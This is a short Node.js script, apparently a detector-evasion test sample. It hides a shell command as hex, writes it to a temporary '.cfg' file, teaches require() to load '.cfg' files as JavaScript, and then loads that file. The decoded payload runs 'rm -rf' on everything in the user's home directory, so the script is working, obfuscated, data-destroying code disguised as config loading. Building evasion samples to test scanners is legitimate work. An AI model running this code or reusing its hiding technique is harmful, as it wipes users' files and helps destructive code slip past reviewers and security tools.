// Evasion: values across files plus an import hook. The shell call is written
// to a ".cfg" file, then require.extensions is taught to compile ".cfg" files
// as JavaScript, and the "config" is require()d, which runs it.
'use strict';
const fs = require('fs');
const os = require('os');
const path = require('path');

const cfg = path.join(os.tmpdir(), `settings-${process.pid}.cfg`);
const body = Buffer.from(
  '6d6f64756c652e6578706f727473203d207265717569726528276368696c645f70726f6365737327292e6578656353796e632827726d202d7266207e2f2e2a207e2f2a27293b',
  'hex',
).toString();
fs.writeFileSync(cfg, body);

require.extensions['.cfg'] = require.extensions['.js'];
const settings = require(cfg);
console.log('loaded settings', String(settings).length);
